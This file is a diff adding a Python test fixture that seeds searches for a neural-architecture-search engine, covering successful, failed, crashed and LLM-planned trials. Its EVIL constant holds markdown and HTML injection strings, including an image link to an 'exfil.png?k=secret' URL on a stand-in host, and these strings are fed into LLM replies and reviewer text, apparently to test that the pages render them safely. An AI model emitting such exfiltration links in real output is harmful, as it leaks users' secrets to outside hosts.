@@ -1,0 +1,295 @@
+"""A workspace with a search in which everything has happened that a page must be able to show."""
+
+from __future__ import annotations
+
+import math
+import subprocess
+import sys
+import time
+from typing import Literal
+
+import psutil
+
+from informer.config import Value, from_flat
+from informer.rundir import Epoch, Failure, Progress, Success
+from nas_engine.evaluator import Verdict, decide
+from nas_engine.proposals import Proposal, Source
+from nas_engine.search import SearchSpec
+from nas_engine.space import step_type
+from nas_engine.store.reader import BaselineRow
+from nas_engine.store.writer import Writer
+from nas_engine.workspace import Workspace
+
+EVIL = (
+    "See ![x](http://198.51.100.7/exfil.png?k=secret) [here](https://198.51.100.7/a) "
+    "<img src='http://198.51.100.7/b.png'> :material/home: $x^2$ https://198.51.100.7/c"
+)
+
+BASELINES = [
+    BaselineRow(name, split, mse, mae)
+    for name, split, mse, mae in (
+        ("linear map", "val", 0.3921, 0.4102),
+        ("repeat last season", "val", 0.6610, 0.5204),
+        ("repeat last value", "val", 1.3042, 0.7921),
+        ("linear map", "test", 0.3387, 0.3701),
+        ("repeat last season", "test", 0.5120, 0.4333),
+        ("repeat last value", "test", 1.2943, 0.7133),
+    )
+]
+
+
+class Seed:
+    """Writes searches as the engine does."""
+
+    def __init__(self, workspace: Workspace, **spec: object) -> None:
+        self.spec = SearchSpec.model_validate({"settings": {"training.epochs": 6}, **spec})
+        self.workspace = workspace
+        self.writer = Writer(workspace)
+        self.id = self.writer.open_search(self.spec)
+        self.writer.add_baselines(self.id, BASELINES)
+        self.writer.log(self.id, "The baselines are computed.")
+
+    def close(self) -> None:
+        self.writer.close()
+
+    def propose(
+        self,
+        number: int,
+        source: Source,
+        parent: int | None = None,
+        changes: dict[str, Value] | None = None,
+        hypothesis: str = "A wider model should help.",
+        reasons: str = "",
+        waiting: bool = False,
+    ) -> int:
+        proposal = Proposal(
+            source=source,
+            parent=parent,
+            changes=changes or {},
+            hypothesis=hypothesis,
+            reasons=reasons,
+        )
+        config = from_flat({**self.config(parent), **proposal.changes})
+        self.writer.log(self.id, f"Trial {number} proposed by {source}.", number)
+        return self.writer.propose(self.id, number, proposal, config, waiting)
+
+    def config(self, number: int | None) -> dict[str, Value]:
+        trial = None if number is None else self.writer.read.trial(self.id, number)
+        return self.spec.base().flat() if trial is None else trial.config
+
+    def train(self, number: int, best: float, epochs: int = 6) -> None:
+        """Train a trial to its end, with curves that fall to `best`, and judge it."""
+        run = self.writer.begin_run(self.id, number, 2021)
+        self.writer.add_metrics(run, curve(best, epochs))
+        self.writer.complete(
+            self.id,
+            number,
+            run,
+            Success(
+                val_mse=best,
+                val_mae=best**0.5 * 0.66,
+                test_mse=best * 0.81,
+                test_mae=best**0.5 * 0.6,
+                best_epoch=epochs - 1,
+                epochs=epochs,
+                parameters=113_479 + 20_000 * number,
+                seconds=31.4 + 3 * number,
+                device="cpu",
+            ),
+        )
+        search = self.writer.read.search(self.id)
+        assert search is not None
+        incumbent = None if search.best is None else (search.incumbent or 0, search.best)
+        verdict = decide(best, "", incumbent, self.spec.rules)
+        self.writer.save_verdict(self.id, number, verdict)
+        self.writer.log(self.id, f"Trial {number}: {verdict.sentence}", number)
+        self.backdate(number, 33.0 + 3 * number)
+
+    def fail(self, number: int, error_class: str = "out_of_memory") -> None:
+        self.writer.begin_run(self.id, number, 2021)
+        message = "The device ran out of memory; take a smaller batch or model."
+        run = self.workspace.run_dir(self.id, number)
+        run.path.mkdir(parents=True, exist_ok=True)
+        run.log.write_text("loading ETTh1\nepoch 1\ntorch.OutOfMemoryError: CUDA out of memory\n")
+        run.write_result(Failure(error_class="out_of_memory", message=message))
+        self.writer.end_without_result(self.id, number, "failed", error_class, message)
+        verdict = Verdict(False, "no result", f"Rejected: {message}")
+        self.writer.save_verdict(self.id, number, verdict)
+        self.writer.log(self.id, f"Trial {number} failed: {message}", number, "warning")
+        self.backdate(number, 4.0)
+
+    def running(self, number: int, epochs: int = 2) -> None:
+        run = self.writer.begin_run(self.id, number, 2021)
+        self.writer.add_metrics(
+            run, [*curve(0.36, 6)[:epochs], Progress(epoch=epochs + 1, step=120, steps=268)]
+        )
+
+    def backdate(self, number: int, seconds: float) -> None:
+        self.writer._execute(
+            "UPDATE trials SET started_at = ended_at - ? WHERE search_id = ? AND number = ?",
+            (seconds, self.id, number),
+        )
+
+    def call(
+        self,
+        number: int,
+        outcome: Literal["used", "refused", "failed"] | None,
+        reply: str = "",
+        problem: str = "",
+    ) -> None:
+        """Record an exchange with a language model; `outcome` None: the call was lost."""
+        attempt = 1 + sum(row.number == number for row in self.writer.read.llm_calls(self.id))
+        messages = [
+            {"role": "system", "content": "You plan the next trial of a search."},
+            {"role": "user", "content": "Task: ETTh1, features M.\n" + "- trial 0: val_mse\n" * 30},
+        ]
+        call = self.writer.reserve_call(
+            self.id, number, "planner", attempt, "anthropic/claude-sonnet-4.5", messages
+        )
+        if outcome is not None:
+            self.writer.finish_call(
+                call,
+                outcome,
+                reply,
+                problem,
+                2.31,
+                1840,
+                212,
+                0.00871,
+            )
+
+    def lease(self, alive: bool, pid: int | None = None) -> None:
+        """Give the search an engine: process `pid` (this one), or one that has ended."""
+        if alive:
+            process = psutil.Process(pid)
+            self.writer.take_lease(self.id, process.pid, process.create_time())
+            self.writer.beat(self.id, process.pid, 412.0)
+            return
+        ended = subprocess.Popen([sys.executable, "-c", ""])
+        created = psutil.Process(ended.pid).create_time()
+        ended.wait()
+        self.writer.take_lease(self.id, ended.pid, created)
+
+
+def curve(best: float, epochs: int) -> list[Progress | Epoch]:
+    """Return epochs whose val_mse has its least value, `best`, at the last but one."""
+    rows: list[Progress | Epoch] = []
+    for epoch in range(1, epochs + 1):
+        above = 0.22 * math.exp(-0.8 * epoch) + (0.01 if epoch == epochs else 0.0)
+        value = best if epoch == epochs - 1 else best + above
+        rows.append(
+            Epoch(
+                epoch=epoch,
+                train_loss=None if epoch == 2 and best > 0.6 else 0.3 + 0.4 * math.exp(-epoch / 2),
+                val_mse=value,
+                val_mae=value**0.5 * 0.66,
+                lr=1e-4 / 2**epoch,
+                seconds=5.2,
+            )
+        )
+    return rows
+
+
+def eventful(workspace: Workspace, alive: bool | None = None) -> int:
+    """Seed a search with a trial of every kind, and return its id.
+
+    Args:
+        workspace: where.
+        alive: whether its engine lives; None: it has none.
+    """
+    seed = Seed(workspace, planner="hybrid", mode="review", max_trials=20)
+    writer = seed.writer
+    start = "The starting configuration is the reference for every change."
+    seed.propose(0, "default", hypothesis=start)
+    seed.train(0, 0.7012)
+    proposal = seed.propose(1, "tpe", 0, {"model.normalisation": "standardise"}, waiting=True)
+    writer.decide(proposal, 1, "approved", "ada", "", None)
+    seed.train(1, 0.4481)
+    proposal = seed.propose(2, "tpe", 1, {"model.d_model": 128, "model.d_ff": 512}, waiting=True)
+    writer.decide(proposal, 1, "approved", "ada", "", None)
+    seed.fail(2)
+    proposal = seed.propose(3, "llm", 1, {"model.dropout": 0.5}, EVIL, EVIL, waiting=True)
+    seed.call(3, "refused", "I would try dropout.", "The reply holds no JSON object.")
+    seed.call(3, "used", f'{{"hypothesis": "{EVIL}", "changes": []}}')
+    writer.decide(proposal, 1, "rejected", "ada", "Half of the units is too many. " + EVIL, None)
+    changes: dict[str, Value] = {"training.optimizer_params.lr": 0.001}
+    proposal = seed.propose(4, "tpe", 1, changes, waiting=True)
+    edited: dict[str, Value] = {"training.optimizer_params.lr": 0.0005, "data.batch_size": 64}
+    config = from_flat({**seed.config(1), **edited})
+    writer.decide(proposal, 1, "edited", "ada", "Less.", (edited, config, step_type(edited)))
+    seed.train(4, 0.4502)
+    proposal = seed.propose(
+        5, "fallback", 1, {"model.e_layers": 3}, reasons="No answer.", waiting=True
+    )
+    seed.call(5, "failed", "", "429: too many requests")
+    seed.call(5, None)
+    writer.decide(proposal, 1, "approved", "ada", "", None)
+    writer.begin_run(seed.id, 5, 2021)
+    writer.end_without_result(seed.id, 5, "crashed", "error", "The worker was lost.")
+    writer.save_verdict(seed.id, 5, Verdict(False, "no result", "Rejected: the worker was lost."))
+    proposal = seed.propose(
+        6, "llm", 1, {"data.seq_len": 168, "model.attention": "full"}, waiting=True
+    )
+    seed.call(6, "used", '{"hypothesis": "A longer look-back", "changes": []}')
+    writer.decide(proposal, 1, "approved", "ada", "Good idea.", None)
+    seed.train(6, 0.3876)
+    proposal = seed.propose(7, "tpe", 6, {"training.scheduler_class": "Constant"}, waiting=True)
+    writer.decide(proposal, 1, "approved", "ada", "", None)
+    seed.running(7)
+    seed.propose(
+        8,
+        "llm",
+        6,
+        {"model.d_model": 128, "model.dropout": 0.15, "training.criterion_class": "HuberLoss"},
+        "A wider model with a robust loss should lower val_mse by about 2 %, since residuals of "
+        "trial 6 have heavy tails.",
+        "Trials 1 and 6 improved by structure, not by size; the curves of trial 6 still fall at "
+        "the last epoch, so capacity is not exhausted.\n" + EVIL,
+        waiting=True,
+    )
+    if alive is not None:
+        seed.lease(alive)
+    seed.close()
+    return seed.id
+
+
+def small(workspace: Workspace, trials: int = 1) -> int:
+    """Seed a search of a few good trials in auto mode, and return its id."""
+    seed = Seed(workspace, planner="tpe", max_trials=5, settings={"data.pred_len": 48})
+    for number in range(trials):
+        changes: dict[str, Value] = {"model.dropout": 0.1 * number} if number else {}
+        seed.propose(number, "tpe" if number else "default", 0 if number else None, changes)
+        seed.train(number, 0.5 - 0.02 * number)
+    seed.close()
+    return seed.id
+
+
+def all_failed(workspace: Workspace) -> int:
+    """Seed a search without a single result, and return its id."""
+    seed = Seed(workspace, planner="random", max_trials=3, settings={"data.pred_len": 96})
+    for number in range(2):
+        changes: dict[str, Value] = {"model.dropout": 0.3} if number else {}
+        seed.propose(number, "random" if number else "default", None, changes)
+        seed.fail(number)
+    seed.close()
+    return seed.id
+
+
+def untouched(workspace: Workspace) -> int:
+    """Seed a search that has only just been created, and return its id."""
+    seed = Seed(workspace, settings={"data.pred_len": 192})
+    seed.writer._execute("DELETE FROM baselines WHERE search_id = ?", (seed.id,))
+    seed.close()
+    return seed.id
+
+
+if __name__ == "__main__":  # for looking at the pages: a workspace whose engine seems to live
+    from pathlib import Path
+
+    place = Workspace(Path(sys.argv[1]))
+    all_failed(place), small(place, 3)
+    number = eventful(place, alive=True)
+    keeper = Writer(place)
+    while True:
+        keeper.beat(number, psutil.Process().pid, 1.0)
+        time.sleep(1)
